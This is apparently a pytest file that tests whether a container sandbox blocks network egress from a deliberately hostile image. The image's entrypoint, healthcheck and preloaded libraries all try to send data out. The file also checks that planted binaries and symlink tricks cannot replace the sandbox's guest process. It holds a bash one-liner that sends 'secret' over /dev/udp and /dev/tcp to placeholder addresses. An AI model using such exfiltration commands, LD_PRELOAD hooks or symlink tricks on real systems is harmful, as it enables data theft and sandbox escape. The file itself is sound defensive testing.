"""Attack 73 of the list: what dials before, or at the same moment as, its wall could be there.

The image is as rude as one can be: its entry point, its health check, and a library that is loaded into
every process of it all dial at once. And somebody executes in a sandbox from the first moment that the API lets.
"""
import concurrent.futures
import os
import pathlib
import time

import pytest

from house import binary, wait_for
from internet import ALLOWED
from spaces import run
from tools_image import make_image

# The long run is that of scripts/test --full.
FULL = "SANDBOXKIT_FULL" in os.environ
CREATIONS = 100 if FULL else 8
AT_ONCE = 4
PRELOADED, BY_VARIABLE, ENTRY, HEALTH, EXECUTED = (f"93.200.7.{i}" for i in range(1, 6))
DIAL = "exec 2>/dev/null; echo secret > /dev/udp/{0}/53; timeout 1 bash -c ': < /dev/tcp/{0}/80'"
GUEST = "usr/sbin/sandboxkit-guest"  # /sbin of Debian is a link.


def dialling(address):
    return ["bash", "-c", DIAL.format(address)]


@pytest.fixture(scope="module")
def rude(own, tmp_path_factory):
    folder = tmp_path_factory.mktemp("rude")
    libraries = {}
    for name, address in (("preloaded", PRELOADED), ("variable", BY_VARIABLE)):
        made = folder / f"{name}.so"
        run("cc", "-shared", "-fPIC", "-o", str(made), f'-DTO="{address}"', str(pathlib.Path(__file__).with_name("rude.c")))
        libraries[f"usr/lib/{name}.so"] = made.read_bytes()
    return make_image(own, "sandboxkit/test-rude", {**libraries, "etc/ld.so.preload": b"/usr/lib/preloaded.so\n"}, config={
        "Entrypoint": ["bash", "-c", DIAL.format(ENTRY) + "; sleep 3600"], "Cmd": [],
        "Env": ["LD_PRELOAD=/usr/lib/variable.so", "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
        "OnBuild": ["RUN true"],
        "Healthcheck": {"Test": ["CMD", *dialling(HEALTH)], "Interval": 1_000_000_000, "Timeout": 2_000_000_000}})


def test_the_rude_image_does_dial_where_no_wall_is(internet, own, rude):
    """If this fails, the tests below prove nothing."""
    control = own.call("POST", "/containers/create", {"Image": rude})["Id"]

    def checked():
        return (own.call("GET", f"/containers/{control}/json")["State"].get("Health") or {}).get("Log")
    try:
        with internet.watch() as seen:
            own.call("POST", f"/containers/{control}/start")
            wait_for(checked, 60, "a health check")
    finally:
        own.call("DELETE", f"/containers/{control}?force=1&v=1")
    assert {PRELOADED, BY_VARIABLE, ENTRY, HEALTH} <= {packet.to for packet in seen}


def first_exec(house, name, creation):
    """Asks to execute from the moment that the list has the sandbox; gives the first answer that is one."""
    sandbox, told = None, None
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        if sandbox is None:
            sandbox = next((s["id"] for s in house.sandboxes() if s.get("name") == name), None)
        if sandbox is not None:
            told = house.exec(sandbox, ["bash", "-c", DIAL.format(EXECUTED) + "; exec curl -sS -m 20 http://ok.test/"],
                              timeout_seconds=30)
            if told[0] == 200:
                return told[1]
        if creation.done() and creation.result()[0] != 201:
            break
        time.sleep(0.02)  # Others ask as well.
    raise AssertionError(f"{name}: {told}; {creation.done() and creation.result()}")


def race(house, image, i):
    name = f"race-{i}"
    with concurrent.futures.ThreadPoolExecutor(1) as own_thread:
        creation = own_thread.submit(house.create, image=image, name=name, profile="sudo", cpu_cores=0.5, memory_mb=128,
                                     egress={"allowed_domains": ["ok.test"]})
        done = first_exec(house, name, creation)
        status, made = creation.result()
    assert status == 201, made
    healthcheck = house.container(made["id"])["Config"]["Healthcheck"]["Test"]
    house.api("DELETE", f"/v1/sandboxes/{made['id']}")
    return done["stdout"], healthcheck


def test_73_whatever_dials_at_once_finds_the_wall_there_and_the_proxy_ready(internet, house, rude):
    begun = time.monotonic()
    with internet.only((ALLOWED, 80), names=["ok.test"]), concurrent.futures.ThreadPoolExecutor(AT_ONCE) as pool:
        done = list(pool.map(lambda i: race(house, rude, i), range(CREATIONS)))
        wait_for(lambda: not any((s.get("name") or "").startswith("race-") for s in house.sandboxes()), 60, "the end of all")
    assert done == [(f"reached {ALLOWED}\n", ["NONE"])] * CREATIONS
    print(f"{house.structure}: {CREATIONS} creations in {time.monotonic() - begun:.0f} s")


OWN_PROGRAM = f"#!/bin/bash\n{DIAL.format(ENTRY)}\nsleep 3600\n".encode()
# What an image may have where the guest, which is process 1, and its folder are put.
IN_THE_WAY = {
    "a program of its own": {GUEST: OWN_PROGRAM},
    "a link to a program of its own": {GUEST: "/opt/own", "opt/own": OWN_PROGRAM},
    "a link into a file system that is mounted later": {GUEST: "/dev/shm/own"},
    "a link to what runs it": {GUEST: "/proc/self/exe"},
    "a link out of itself": {GUEST: "../../../../../../../../../bin/true"},
    "its folder is a link to a folder of its own": {"run/sandboxkit": "/tmp"},
}
# The guest finds no socket then: the create ends at its time limit.
IN_THE_WAY_LONG = {"its folder is a link into the kernel's files": {"run/sandboxkit": "/proc/self/cwd"}}


@pytest.mark.parametrize("which", [*IN_THE_WAY, *(pytest.param(each, marks=pytest.mark.skipif(
    not FULL, reason="takes over a minute: scripts/test --full")) for each in IN_THE_WAY_LONG)])
def test_73_an_image_takes_no_place_of_the_guest(internet, own, house, which):
    image = make_image(own, "sandboxkit/test-in-the-way", {**IN_THE_WAY, **IN_THE_WAY_LONG}[which])
    with internet.only((ALLOWED, 80), names=["ok.test"]):
        status, made = house.create(image=image, egress={"allowed_domains": ["ok.test"]})
        try:
            if status == 201:
                first = os.stat(f"/proc/{house.container(made['id'])['State']['Pid']}/exe")
                guest = os.stat(binary("sandboxkit-guest"))
                assert (first.st_dev, first.st_ino) == (guest.st_dev, guest.st_ino), "something else is process 1"
                _, done = house.exec(made["id"], ["curl", "-sS", "-m", "20", "http://ok.test/"])
                assert done["stdout"] == f"reached {ALLOWED}\n", done
            else:
                assert made["error"] and made["message"], made
        finally:
            if status == 201:
                house.api("DELETE", f"/v1/sandboxes/{made['id']}")
    own.call("DELETE", f"/images/{image}?force=1")
    wait_for(lambda: not [left for left in house.leftovers() if made.get("id", made.get("sandbox", "none")) in left], 60, "nothing left")
